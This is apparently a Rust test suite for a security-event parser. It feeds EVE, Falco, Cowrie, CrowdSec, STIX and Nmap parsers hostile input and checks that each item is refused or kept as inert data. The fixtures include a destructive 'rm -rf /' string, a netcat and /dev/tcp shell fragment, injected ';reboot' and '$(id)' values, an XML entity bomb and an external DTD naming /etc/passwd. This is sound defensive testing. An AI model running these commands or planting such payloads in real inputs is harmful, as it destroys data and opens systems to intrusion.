//! Hostile event content: each gets a located refusal (or is kept as inert data), never a
//! panic, and never drops the good records around it.

use vacsine_events::limits::{MAX_FIELD_BYTES, MAX_LINE_BYTES, MAX_PATTERN_COMPARISONS};
use vacsine_events::{parse, ErrorKind, Format, Pattern};

const GOOD_EVE: &str = r#"{"timestamp":"2026-03-02T10:00:00Z","event_type":"alert","src_ip":"203.0.113.1","dest_ip":"192.0.2.10","alert":{"signature":"good","severity":2}}"#;

fn eve_with(bad: &str) -> vacsine_events::Parsed {
    let text = format!("{GOOD_EVE}\n{bad}\n{GOOD_EVE}\n");
    parse(Format::Eve, text.as_bytes())
}

fn one_error(p: &vacsine_events::Parsed, line: usize, kind: ErrorKind, piece: &str) {
    assert_eq!(p.events.len(), 2, "good lines kept: {:?}", p.errors);
    assert_eq!(p.errors.len(), 1, "{:?}", p.errors);
    let e = &p.errors[0];
    assert_eq!((e.line, e.kind), (line, kind), "{e}");
    assert!(e.to_string().contains(piece), "{e} lacks {piece:?}");
    // The message never carries the whole hostile value.
    assert!(e.to_string().len() < 400, "{} bytes", e.to_string().len());
}

#[test]
fn shell_metacharacters_are_kept_as_data() {
    let sig = "x'; rm -rf / #$(reboot)`id`|nc 198.51.100.1 4444>&/dev/tcp&&\"\n";
    let line = serde_json::json!({
        "timestamp": "2026-03-02T10:00:00Z", "event_type": "alert", "src_ip": "203.0.113.2",
        "alert": {"signature": sig, "severity": 1}
    })
    .to_string();
    let p = eve_with(&line);
    assert!(p.errors.is_empty(), "{:?}", p.errors);
    assert_eq!(p.events.len(), 3);
    let kept = &p.events[1].fields["signature"];
    assert_eq!(kept, sig);
    // An address field is an address or nothing: metacharacters there are refused.
    let bad = GOOD_EVE.replace("203.0.113.1", "203.0.113.1;reboot");
    one_error(
        &eve_with(&bad),
        2,
        ErrorKind::Invalid,
        "field `src_ip` is \"203.0.113.1;reboot\", expected an IP address",
    );
}

#[test]
fn a_field_that_should_be_an_ip_and_is_not_is_refused_with_its_location_in_every_format() {
    let cases: &[(Format, &str, &str)] = &[
        (
            Format::Eve,
            r#"{"timestamp":"2026-03-02T10:00:00Z","event_type":"alert","src_ip":"evil.example","alert":{"signature":"s"}}"#,
            "field `src_ip` is \"evil.example\", expected an IP address",
        ),
        (
            Format::Eve,
            r#"{"timestamp":"2026-03-02T10:00:00Z","event_type":"alert","src_ip":"192.0.2.1","dest_ip":"300.1.1.1","alert":{"signature":"s"}}"#,
            "field `dest_ip` is \"300.1.1.1\"",
        ),
        (
            Format::Falco,
            r#"{"rule":"r","priority":"Error","time":"2026-03-02T10:00:00Z","output_fields":{"fd.rip":"$(id)"}}"#,
            "field `output_fields.fd.rip` is \"$(id)\", expected an IP address",
        ),
        (
            Format::OpenCanary,
            r#"{"logtype":4002,"src_host":"1.2.3","utc_time":"2026-03-02 10:00:00.0"}"#,
            "field `src_host` is \"1.2.3\", expected an IP address",
        ),
        (
            Format::Cowrie,
            r#"{"eventid":"cowrie.login.failed","src_ip":12,"timestamp":"2026-03-02T10:00:00Z"}"#,
            "field `src_ip` is a number, expected a string",
        ),
        (
            Format::CrowdSec,
            r#"{"scope":"Ip","value":"203.0.113.1 || reboot","type":"ban","until":"2026-03-02T10:00:00Z","duration":"1h"}"#,
            "decision value: \"203.0.113.1 || reboot\" is not an IP address",
        ),
        (
            Format::CrowdSec,
            r#"{"scope":"Range","value":"10.0.0.1/8","type":"ban","until":"2026-03-02T10:00:00Z","duration":"1h"}"#,
            "host bits set",
        ),
        (
            Format::Stix,
            r#"{"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = 'localhost']","pattern_type":"stix","valid_from":"2026-03-01T00:00:00Z"}"#,
            "\"localhost\" is not an IP address",
        ),
    ];
    for (format, bad, piece) in cases {
        let text = format!("\n{bad}\n");
        let p = parse(*format, text.as_bytes());
        assert!(p.events.is_empty(), "{format}: {:?}", p.events);
        assert_eq!(p.errors.len(), 1, "{format}: {:?}", p.errors);
        let e = &p.errors[0];
        assert_eq!(e.line, 2, "{format}: {e}");
        assert!(
            e.to_string().contains(piece),
            "{format}: {e} lacks {piece:?}"
        );
    }
}

#[test]
fn a_one_megabyte_field_is_refused_and_a_line_over_one_mebibyte_too() {
    let big = "A".repeat(1_000_000);
    let line = GOOD_EVE.replace("good", &big);
    assert!(line.len() < MAX_LINE_BYTES);
    one_error(&eve_with(&line), 2, ErrorKind::FieldTooLarge, &format!("field `alert.signature` of 1000000 bytes refused (at most {MAX_FIELD_BYTES} bytes per field)"));
    // A key can be hostile too (where records are kept whole: Falco's output_fields; EVE
    // skips the keys it does not read without building them).
    let falco = format!(
        r#"{{"rule":"r","priority":"Error","time":"2026-03-02T10:00:00Z","output_fields":{{"{}":1}}}}"#,
        "k".repeat(70_000)
    );
    let p = parse(Format::Falco, falco.as_bytes());
    assert_eq!(
        (p.errors.len(), p.errors[0].kind),
        (1, ErrorKind::FieldTooLarge),
        "{:?}",
        p.errors
    );
    let huge = GOOD_EVE.replace("good", &"B".repeat(MAX_LINE_BYTES + 10));
    one_error(
        &eve_with(&huge),
        2,
        ErrorKind::LineTooLong,
        "bytes refused (at most 1048576 bytes per line)",
    );
    // The same through a reader: the long line is not held in memory whole, and is still refused.
    let text = format!("{GOOD_EVE}\n{huge}\n{GOOD_EVE}\n");
    let p = vacsine_events::parse_reader(
        Format::Eve,
        std::io::BufReader::new(text.as_bytes()),
        &Default::default(),
    )
    .unwrap();
    one_error(&p, 2, ErrorKind::LineTooLong, "bytes refused");
    // A big field in a document format: refused at its element.
    let doc = format!("[\n{{\"scope\":\"Ip\",\"value\":\"203.0.113.1\",\"type\":\"ban\",\"until\":\"2026-03-02T10:00:00Z\",\"duration\":\"1h\"}},\n{{\"scope\":\"Ip\",\"value\":\"203.0.113.2\",\"type\":\"ban\",\"scenario\":\"{big}\"}}\n]");
    let p = parse(Format::CrowdSec, doc.as_bytes());
    assert_eq!(p.events.len(), 1);
    assert_eq!(p.errors.len(), 1);
    assert_eq!(
        (p.errors[0].line, p.errors[0].kind),
        (3, ErrorKind::FieldTooLarge),
        "{}",
        p.errors[0]
    );
}

#[test]
fn invalid_utf8_is_reported_with_its_line_and_column() {
    let mut text = Vec::new();
    text.extend_from_slice(GOOD_EVE.as_bytes());
    text.extend_from_slice(b"\n{\"event_type\":\"alert\",\"src_ip\":\"1.2.3.4\xff\xfe\"}\n");
    text.extend_from_slice(GOOD_EVE.as_bytes());
    let p = parse(Format::Eve, &text);
    one_error(
        &p,
        2,
        ErrorKind::InvalidUtf8,
        "line 2, column 40: invalid UTF-8",
    );
    // In a document format, located too.
    let mut doc =
        b"{\"type\":\"bundle\",\n\"objects\":[\n{\"type\":\"indicator\",\"name\":\"".to_vec();
    doc.extend_from_slice(b"\xc3\x28\"}]}");
    let p = parse(Format::Stix, &doc);
    assert_eq!(p.errors.len(), 1);
    assert_eq!(
        (p.errors[0].line, p.errors[0].kind),
        (3, ErrorKind::InvalidUtf8),
        "{}",
        p.errors[0]
    );
    let p = parse(Format::Nmap, b"<nmaprun>\n<host>\xff</host></nmaprun>");
    assert_eq!(
        (p.errors[0].line, p.errors[0].kind),
        (2, ErrorKind::InvalidUtf8),
        "{}",
        p.errors[0]
    );
}

#[test]
fn deeply_nested_json_is_refused_without_exhausting_the_stack() {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    one_error(
        &eve_with(&deep),
        2,
        ErrorKind::Syntax,
        "JSON nested too deeply",
    );
    let deep_obj = format!(
        r#"{{"event_type":"alert","x":{}1{}}}"#,
        r#"{"a":"#.repeat(50_000),
        "}".repeat(50_000)
    );
    one_error(
        &eve_with(&deep_obj),
        2,
        ErrorKind::Syntax,
        "nested too deeply",
    );
    for format in vacsine_events::Format::ALL {
        if format == Format::Nmap {
            continue;
        }
        let p = parse(format, deep.as_bytes());
        assert_eq!(p.errors.len(), 1, "{format}: {:?}", p.errors);
        assert!(
            p.errors[0].to_string().contains("nested too deeply"),
            "{format}: {}",
            p.errors[0]
        );
    }
    // Deeply nested XML: refused by the parser's own depth bound, located.
    let deep_xml = format!(
        "<nmaprun>\n{}{}</nmaprun>",
        "<a>".repeat(100_000),
        "</a>".repeat(100_000)
    );
    let p = parse(Format::Nmap, deep_xml.as_bytes());
    assert_eq!(p.errors.len(), 1, "{:?}", p.errors);
    assert_eq!(p.errors[0].line, 2, "{}", p.errors[0]);
}

#[test]
fn a_stix_pattern_of_ten_thousand_ors_is_refused_clearly() {
    let ors: Vec<String> = (0..10_000)
        .map(|i| {
            format!(
                "ipv4-addr:value = '10.{}.{}.{}'",
                i / 65536,
                (i / 256) % 256,
                i % 256
            )
        })
        .collect();
    let pattern = format!("[{}]", ors.join(" OR "));
    // Directly: refused at the bound, with the column where it was crossed.
    let e = Pattern::parse(&pattern).unwrap_err();
    assert!(
        e.to_string().contains(&format!(
            "more than {MAX_PATTERN_COMPARISONS} comparisons in one pattern (refused)"
        )),
        "{e}"
    );
    // The same between observation expressions.
    let obs: Vec<String> = ors.iter().map(|c| format!("[{c}]")).collect();
    let e = Pattern::parse(&obs.join(" OR ")).unwrap_err();
    assert!(
        e.to_string()
            .contains("comparisons in one pattern (refused)"),
        "{e}"
    );
    // In a bundle: the pattern field is past the field limit, refused at the indicator's line,
    // and the indicator beside it is kept.
    let bundle = format!(
        "{{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[\n{{\"type\":\"indicator\",\"id\":\"indicator--ok\",\"pattern\":\"[ipv4-addr:value = '203.0.113.1']\",\"pattern_type\":\"stix\",\"valid_from\":\"2026-03-01T00:00:00Z\"}},\n{{\"type\":\"indicator\",\"id\":\"indicator--big\",\"pattern\":\"{pattern}\",\"pattern_type\":\"stix\",\"valid_from\":\"2026-03-01T00:00:00Z\"}}]}}"
    );
    let p = parse(Format::Stix, bundle.as_bytes());
    assert_eq!(
        p.events.len(),
        0,
        "the bundle is one document: an oversized field refuses it whole"
    );
    assert_eq!(p.errors.len(), 1);
    assert_eq!(
        p.errors[0].kind,
        ErrorKind::FieldTooLarge,
        "{}",
        p.errors[0]
    );
    assert!(
        p.errors[0]
            .to_string()
            .contains("field `objects.1.pattern`"),
        "{}",
        p.errors[0]
    );
    // Within the field limit, but over the comparison bound: that indicator alone is refused.
    let many: Vec<String> = (0..1500)
        .map(|i| format!("[ipv4-addr:value='10.0.{}.{}']", i / 256, i % 256))
        .collect();
    let pat = many.join("OR");
    assert!(pat.len() < MAX_FIELD_BYTES);
    let bundle = format!(
        "{{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[\n{{\"type\":\"indicator\",\"id\":\"indicator--ok\",\"pattern\":\"[ipv4-addr:value = '203.0.113.1']\",\"pattern_type\":\"stix\",\"valid_from\":\"2026-03-01T00:00:00Z\"}},\n{{\"type\":\"indicator\",\"id\":\"indicator--big\",\"pattern\":\"{pat}\",\"pattern_type\":\"stix\",\"valid_from\":\"2026-03-01T00:00:00Z\"}}]}}"
    );
    let p = parse(Format::Stix, bundle.as_bytes());
    assert_eq!(p.events.len(), 1);
    assert_eq!(p.errors.len(), 1);
    assert_eq!(p.errors[0].line, 3, "{}", p.errors[0]);
    assert!(
        p.errors[0]
            .to_string()
            .contains("indicator \"indicator--big\""),
        "{}",
        p.errors[0]
    );
}

#[test]
fn deeply_nested_stix_patterns_are_refused_without_recursion_blowing_up() {
    let depth = 100_000;
    for p in [
        format!(
            "{}[ipv4-addr:value = '1.2.3.4']{}",
            "(".repeat(depth),
            ")".repeat(depth)
        ),
        format!(
            "[{}ipv4-addr:value = '1.2.3.4'{}]",
            "(".repeat(depth),
            ")".repeat(depth)
        ),
    ] {
        let e = Pattern::parse(&p).unwrap_err();
        assert!(
            e.to_string()
                .contains("nested more than 32 levels deep (refused)"),
            "{e}"
        );
    }
    // Within the bound, it is evaluated.
    let p = format!(
        "{}[ipv4-addr:value = '1.2.3.4']{}",
        "(".repeat(20),
        ")".repeat(20)
    );
    assert!(Pattern::parse(&p).is_ok());
}

#[test]
fn xml_entity_declarations_are_refused() {
    let bomb = "<?xml version=\"1.0\"?>\n<!DOCTYPE nmaprun [\n<!ENTITY a \"aaaaaaaaaa\">\n<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n]>\n<nmaprun start=\"1\">&b;</nmaprun>";
    let p = parse(Format::Nmap, bomb.as_bytes());
    assert!(p.events.is_empty());
    assert_eq!(p.errors.len(), 1);
    assert_eq!(p.errors[0].line, 3, "{}", p.errors[0]);
    assert!(
        p.errors[0]
            .to_string()
            .contains("entity declarations are refused"),
        "{}",
        p.errors[0]
    );
    let ext = "<?xml version=\"1.0\"?>\n<!DOCTYPE nmaprun SYSTEM \"file:///etc/passwd\">\n<nmaprun start=\"1\"><host><address addr=\"192.0.2.1\" addrtype=\"ipv4\"/></host></nmaprun>";
    let p = parse(Format::Nmap, ext.as_bytes());
    assert!(
        p.errors.is_empty(),
        "an external DTD is never loaded: {:?}",
        p.errors
    );
}

#[test]
fn wrong_types_and_missing_fields_are_located_not_panics() {
    let cases: &[(Format, &str, &str)] = &[
        (
            Format::Eve,
            r#"{"event_type":"alert","src_ip":"192.0.2.1","alert":{"signature":"s"}}"#,
            "field `timestamp` is missing",
        ),
        (
            Format::Eve,
            r#"{"timestamp":"yesterday","event_type":"alert","alert":{"signature":"s"}}"#,
            "field `timestamp` is \"yesterday\", expected an RFC 3339 timestamp",
        ),
        (
            Format::Eve,
            r#"{"timestamp":"2026-03-02T10:00:00Z","event_type":"alert","src_port":70000,"alert":{"signature":"s"}}"#,
            "field `src_port` is 70000, expected a port",
        ),
        (
            Format::Eve,
            r#"{"timestamp":"2026-03-02T10:00:00Z","event_type":"alert","alert":"s"}"#,
            "field `alert.signature` is missing",
        ),
        (Format::Eve, r#""just a string""#, "expected a JSON object"),
        (
            Format::Falco,
            r#"{"rule":"r","priority":"Error","time":"2026-03-02T10:00:00Z","output_fields":[1]}"#,
            "field `output_fields` is an array, expected an object",
        ),
        (
            Format::Cowrie,
            r#"{"eventid":"cowrie.session.file_download","src_ip":"192.0.2.1","timestamp":"2026-03-02T10:00:00Z","url":"file:///etc/passwd x"}"#,
            "field `url`",
        ),
        (
            Format::Cowrie,
            r#"{"eventid":"cowrie.session.file_download","src_ip":"192.0.2.1","timestamp":"2026-03-02T10:00:00Z","shasum":"../../etc"}"#,
            "field `shasum`: \"../../etc\" is not a sha256 hash",
        ),
        (
            Format::OpenCanary,
            r#"{"src_host":"192.0.2.1"}"#,
            "field `logtype` is missing",
        ),
        (
            Format::CrowdSec,
            r#"{"scope":"Ip","value":"192.0.2.1","type":"ban","duration":"forever","until":"2026-03-02T10:00:00Z"}"#,
            "field `duration` is \"forever\"",
        ),
        (
            Format::Stix,
            r#"{"type":"indicator","id":"indicator--2","pattern":"[ipv4-addr:value = '192.0.2.1']","pattern_type":"stix","valid_from":"2026-03-02T00:00:00Z","valid_until":"2026-03-01T00:00:00Z"}"#,
            "valid_until (2026-03-01 00:00:00 UTC) is not after valid_from",
        ),
    ];
    for (format, bad, piece) in cases {
        let p = parse(*format, format!("{bad}\n").as_bytes());
        assert_eq!(p.errors.len(), 1, "{format} {bad}: {:?}", p.errors);
        assert!(
            p.errors[0].to_string().contains(piece),
            "{format}: {} lacks {piece:?}",
            p.errors[0]
        );
        assert_eq!(p.errors[0].line, 1);
    }
}
